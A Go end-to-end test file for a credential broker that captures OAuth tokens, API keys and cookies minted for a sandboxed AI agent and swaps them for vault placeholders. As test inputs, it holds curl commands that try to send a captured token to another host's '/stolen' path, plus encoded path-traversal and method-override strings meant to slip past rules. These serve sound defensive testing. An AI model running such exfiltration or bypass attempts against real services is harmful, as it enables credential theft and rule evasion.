package e2e_test

import (
	"bytes"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"sallyport/e2e"
)

// tokens starts a service that hands out secrets, and pins a credential for it
// with rules to an agent.
func tokens(t *testing.T, w *e2e.World, rules ...string) *e2e.Tokens {
	t.Helper()
	const secret = "client-secret-0123456789abcdef"
	s := e2e.NewTokens(t, secret)
	w.OriginServer(e2e.TokensHost, s, "h2", "http/1.1")
	flags := []string{"--host", e2e.TokensHost, "--auth", "basic", "--username", e2e.TokensClient}
	for _, rule := range rules {
		flags = append(flags, "--mint", rule)
	}
	w.Pinned("tokens", secret, flags...)
	return s
}

// unseen fails the test where an agent got to see one of the secrets.
func unseen(t *testing.T, s *e2e.Tokens, got string) {
	t.Helper()
	if len(s.Made()) == 0 {
		t.Error("no secret was handed out, so nothing was tried")
	}
	for _, secret := range s.Made() {
		if strings.Contains(got, secret) {
			t.Errorf("the agent saw the secret %s in\n%s", secret, got)
		}
	}
}

var placeholder = regexp.MustCompile(`vault:tokens\.[a-z0-9.-]+`)

// TestMintedTokenIsCaptured: a real OAuth client gets a token, a key and a cookie,
// uses them, and has never seen them.
func TestMintedTokenIsCaptured(t *testing.T) {
	w := e2e.NewWorld(t, e2e.Race)
	s := tokens(t, w,
		"capture POST /oauth/token json:/access_token ttl=/expires_in",
		"capture POST /keys/* json:/key name=key inject=header:X-Api-Key: {{token}}",
		"capture POST /login cookie:session ttl=1h")
	url := "https://" + e2e.TokensHost
	agent := w.Start("tokens", "bash", "-c", `while read -r line; do eval "$line" 2>&1 | tr '\n' ' '; echo; done`)

	got := agent.Ask(w.Client("oauthclient") + " " + url + "/oauth/token " + url + "/me " + e2e.TokensClient + " vault:tokens")
	oauth := placeholder.FindString(got)
	if !strings.Contains(got, " 200 ") || !strings.Contains(got, `"client":"`+e2e.TokensClient+`"`) || !strings.HasPrefix(oauth, "vault:tokens.access-token.") {
		t.Fatalf("the OAuth client printed %s", got)
	}
	all := got

	for _, version := range []string{"--http1.1", "--http2"} {
		got = agent.Ask("curl -sS " + version + " -X POST " + url + "/keys/plain -D -")
		key := placeholder.FindString(got)
		if !strings.HasPrefix(key, "vault:tokens.key.") || strings.Count(got, key) != 1 || !strings.Contains(got, `"hint":"use ****`) {
			t.Errorf("%s: the agent got %s", version, got)
		}
		all += got
		got = agent.Ask("curl -sS " + version + " -H 'X-Api-Key: " + key + "' -w '%{http_code}' " + url + "/keyed")
		if !strings.HasSuffix(strings.TrimSpace(got), "200") {
			t.Errorf("%s: with its placeholder it got %s", version, got)
		}
		all += got
	}
	got = agent.Ask("curl -sS -c /tmp/jar -b /tmp/jar -L --post303 -X POST " + url + "/login -w '%{http_code}'; cat /tmp/jar")
	if cookie := placeholder.FindString(got); !strings.HasPrefix(cookie, "vault:tokens.session.") {
		t.Errorf("the cookies are %s", got)
	}
	all += got
	got = agent.Ask("curl -sS -b /tmp/jar " + url + "/home -w '%{http_code}'")
	if !strings.HasSuffix(strings.TrimSpace(got), "200") || !strings.Contains(got, "theme=dark") {
		t.Errorf("with its cookie it got %s", got)
	}
	all += got

	// The origin is used where no placeholder of a captured secret is.
	if got = agent.Ask("curl -sS -u own:own " + url + "/me -w '%{http_code}'"); !strings.Contains(got, "401") {
		t.Errorf("without the token it got %s", got)
	}
	// A captured placeholder is for its host, and one a request.
	before := s.Arrived("")
	for what, command := range map[string]string{
		"another host":      "curl -sS -H 'Authorization: Bearer " + oauth + "' https://" + e2e.PublicHost + "/stolen",
		"two in a request":  "curl -sS -b /tmp/jar -H 'Authorization: Bearer " + oauth + "' " + url + "/home",
		"the wrong field":   "curl -sS -H 'X-Note: " + oauth + "' " + url + "/me",
		"a cookie's place":  "curl -sS -b 'other=" + oauth + "' " + url + "/me",
		"the query":         "curl -sS '" + url + "/me?access_token=" + oauth + "'",
		"without TLS":       "curl -sS -H 'Authorization: Bearer " + oauth + "' http://" + e2e.PublicHost + "/stolen",
		"within Basic auth": "curl -sS -u x:" + oauth + " https://" + e2e.PublicHost + "/stolen",
	} {
		if got := agent.Ask(command); !strings.Contains(got, "stray_placeholder") && !strings.Contains(got, "binding_tie") {
			t.Errorf("%s: %s", what, got)
		}
	}
	w.Nginx.SeenNone("/stolen")
	if after := s.Arrived(""); after != before {
		t.Errorf("%d requests with a stray placeholder arrived", after-before)
	}
	if got := agent.Ask("curl -sS -d token=" + oauth + " " + url + "/me"); !strings.Contains(got, "stray_placeholder") {
		t.Errorf("the body: %s", got)
	}
	unseen(t, s, all)

	// Another sandbox of the agent does not have it.
	if got := w.Run("tokens", "curl", "-sS", "-H", "Authorization: Bearer "+oauth, url+"/me"); !strings.Contains(got, "mint_expired") {
		t.Errorf("another sandbox used the token: %s", got)
	}
	captures := 0
	for _, e := range events(t, w) {
		if e.Kind == "credential.capture" {
			captures++
			if e.Agent != "tokens" || e.Sandbox == "" || e.RequestID == "" || !strings.HasPrefix(e.Credential, "tokens/tokens.") || !strings.Contains(e.Detail, "from tokens/tokens ") {
				t.Errorf("the event is %+v", e)
			}
		}
	}
	if captures != 4 {
		t.Errorf("%d captures in the audit log, want 4", captures)
	}
	// An admin sees them, and that they end with their origin.
	if list := w.CLI("credential", "list"); !strings.Contains(list, strings.TrimPrefix(oauth, "vault:")) {
		t.Errorf("credential list:\n%s", list)
	}
	w.CLI("credential", "rm", "--vault", "tokens", "tokens")
	if list := w.CLI("credential", "list"); strings.Contains(list, "tokens.") {
		t.Errorf("after their origin was removed:\n%s", list)
	}
	w.Eventually("the captured token is not used any more", func() bool {
		return strings.Contains(agent.Ask("curl -sS -H 'Authorization: Bearer "+oauth+"' "+url+"/me -w '%{http_code}'"), "401")
	})
	w.StopControl()
	inNoFile(t, w.DataDir(), s.Made(), strings.TrimPrefix(oauth, "vault:"))
}

// inNoFile looks for secrets in all that the control plane keeps, and for a text
// that must be there.
func inNoFile(t *testing.T, dir string, secrets []string, there string) {
	t.Helper()
	found := false
	err := filepath.WalkDir(dir, func(path string, entry fs.DirEntry, err error) error {
		if err != nil || !entry.Type().IsRegular() {
			return err
		}
		content, err := os.ReadFile(path)
		found = found || bytes.Contains(content, []byte(there))
		for _, secret := range secrets {
			if bytes.Contains(content, []byte(secret)) {
				t.Errorf("%s holds the secret %s", path, secret)
			}
		}
		return err
	})
	if err != nil || !found {
		t.Errorf("%q was found: %v; %v", there, found, err)
	}
}

// TestMintedSecretsStayOut: whatever a service answers where a rule applies, the
// agent sees no new secret; and no spelling of a path gets around a rule.
func TestMintedSecretsStayOut(t *testing.T) {
	w := e2e.NewWorld(t, e2e.Shipped)
	s := tokens(t, w,
		"refuse POST /keys/refused json:/key",
		"allow POST /keys/allowed",
		"strip POST /keys/stripped json:/key",
		"capture POST /keys/** json:/key")
	url := "https://" + e2e.TokensHost
	agent := w.Start("tokens", "bash", "-c", `while read -r line; do eval "$line" 2>&1 | tr '\n' ' '; echo; done`)
	for _, tt := range []struct{ path, want string }{
		{"/keys/refused", "mint_refused"},
		{"/keys/stripped", `"key":"[stripped]"`},
		{"/keys/stripped.json", `"key":"[stripped]"`},
		{"/KEYS/Stripped", ""},
		{"/keys/gzip", `"key":"vault:tokens.key.`},
		{"/keys/chunked", `"key":"vault:tokens.key.`},
		{"/keys/hints", `"key":"vault:tokens.key.`},
		{"/keys/huge", "mint_unreadable"},
		{"/keys/elsewhere", "mint_unreadable"},
		{"/keys/twice", "mint_unreadable"},
		{"/keys/text", "mint_unreadable"},
		{"//keys/refused", "bad_path"},
		{"/keys//refused", "bad_path"},
		{"/x/../keys/refused", "bad_path"},
		{"/keys/x/%2e%2e/refused", "bad_path"},
		{"/keys%2frefused", "bad_path"},
		{"/keys/%2572efused", "bad_path"},
		{"/keys;x=y/refused", "bad_path"},
		{"/keys/refused%00", "bad_path"},
		{"/keys/refused.", "bad_path"},
		{"/%6beys/refused", "mint_refused"},
	} {
		for _, version := range []string{"--http1.1", "--http2"} {
			got := agent.Ask("curl -sS -D - --path-as-is " + version + " --compressed -X POST '" + url + tt.path + "'")
			if !strings.Contains(got, tt.want) {
				t.Errorf("%s %s: %s, want %s", version, tt.path, got, tt.want)
			}
			unseen := strings.Contains(tt.want, "bad_path") || tt.want == "mint_refused"
			for _, secret := range s.Made() {
				if strings.Contains(got, secret) {
					t.Errorf("%s %s: the agent saw the secret in %s", version, tt.path, got)
				}
			}
			if n := s.Arrived(tt.path); unseen && n != 0 {
				t.Errorf("%s %s: %d requests arrived", version, tt.path, n)
			}
		}
	}
	if got := agent.Ask("curl -sS -X GET -H 'X-HTTP-Method-Override: POST' " + url + "/keys/refused"); !strings.Contains(got, "bad_request") {
		t.Errorf("a method in a field: %s", got)
	}
	if got := agent.Ask("curl -sS -X POST " + url + "/keys/allowed"); !strings.Contains(got, s.Made()[len(s.Made())-1]) {
		t.Errorf("what is allowed: %s", got)
	}
	// What is set holds in running sandboxes.
	w.CLI("credential", "set", "--vault", "tokens", "tokens", "--mint", "refuse POST /keys/allowed")
	w.Eventually("the new rule holds", func() bool {
		return strings.Contains(agent.Ask("curl -sS -X POST "+url+"/keys/allowed"), "mint_refused")
	})
	// Without the control plane nothing is captured, and nothing handed out.
	w.CLI("credential", "set", "--vault", "tokens", "tokens", "--mint", "capture POST /keys/* json:/key")
	w.Eventually("the new rule holds", func() bool {
		return strings.Contains(agent.Ask("curl -sS -X POST "+url+"/keys/plain"), "vault:tokens.key.")
	})
	w.StopControl()
	got := agent.Ask("curl -sS -X POST " + url + "/keys/plain")
	if !strings.Contains(got, "mint_unstored") {
		t.Errorf("without a control plane: %s", got)
	}
	unseen(t, s, got)
}
